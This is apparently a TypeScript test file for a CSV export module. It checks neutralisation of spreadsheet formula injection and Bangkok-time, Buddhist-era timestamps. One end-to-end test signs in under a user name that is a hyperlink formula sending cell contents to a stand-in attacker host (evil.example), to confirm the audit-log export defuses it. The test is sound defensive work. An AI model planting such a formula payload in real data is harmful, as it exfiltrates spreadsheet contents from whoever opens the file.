/**
 * CSV exports (tracker issue 36 item 8): a text cell that a spreadsheet would run as a formula (starting with `=`,
 * `+`, `-`, `@`, a tab or a carriage return) is written with a leading `'` (OWASP CSV injection), and times are
 * given in Bangkok time with the Buddhist-era year in Thai, as the pages show them. The audit log's export is
 * checked end to end with a sign-in attempt under a formula-like user name (the name tried is logged).
 */
import { describe, expect, it } from "vitest";
import { csvTime, neutraliseCell, toCsv } from "../src/lib/csv";
import { describeWithoutBackend } from "./support/backends";
import { basePath } from "./support/contract-check";
import { ADMIN, describeBackends, uniqueAddress } from "./support/harness";

describeWithoutBackend("CSV helper", () => {
  it("prefixes formula-like texts with a single quote and leaves other cells alone", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(neutraliseCell(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
    expect(neutraliseCell("ถนน = ชำรุด")).toBe("ถนน = ชำรุด");
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(null)).toBeNull();
    expect(toCsv([["=1+2", "ok", true, null]], ["a", "b", "c", "d"])).toBe("\uFEFFa,b,c,d\r\n'=1+2,ok,true,\r\n");
  });

  it("writes times in Bangkok time, the year in the Buddhist era in Thai", () => {
    const at = new Date(Date.UTC(2026, 6, 12, 20, 30, 5)); // 13 July 2026, 03:30:05 in Bangkok
    expect(csvTime(at, "th")).toBe("2569-07-13 03:30:05");
    expect(csvTime(at.toISOString(), "en")).toBe("2026-07-13 03:30:05");
    expect(csvTime(null, "th")).toBe("");
  });
});

describeBackends("CSV exports", (h) => {
  describe("audit log", () => {
    it("neutralises a formula-like user name and gives Buddhist-era Bangkok times in Thai", async () => {
      const name = `=hyperlink("http://evil.example/?"&a1,"x")${Date.now()}`; // user names are kept in lower case
      const res = await h().call("staffLogin", { body: { name, password: "whatever-it-is" }, remoteAddress: uniqueAddress() });
      expect(res.json.success).toBe(false);
      const admin = await h().login("staff", ADMIN);
      const csv = await h().inject({
        method: "GET",
        url: `${basePath}/v1/AuditLog/export?action=sign-in-failure&dir=desc`,
        headers: { "px-auth-token": admin, "accept-language": "th" },
      });
      expect(csv.statusCode, csv.body).toBe(200);
      const line = csv.body.split("\r\n").find((l) => l.includes("hyperlink"));
      expect(line, `${res.status} ${res.json.message} ${csv.body.slice(0, 600)}`).toBeDefined();
      expect(line).toContain(`"'=hyperlink(""http://evil.example/?""&a1,""x"")`);
      expect(line).not.toMatch(/,"?=hyperlink/);
      // The second column is the time: Bangkok time, Buddhist-era year (25xx).
      expect(line!.split(",")[1]).toMatch(/^25\d\d-\d\d-\d\d \d\d:\d\d:\d\d$/);
    });
  });
});
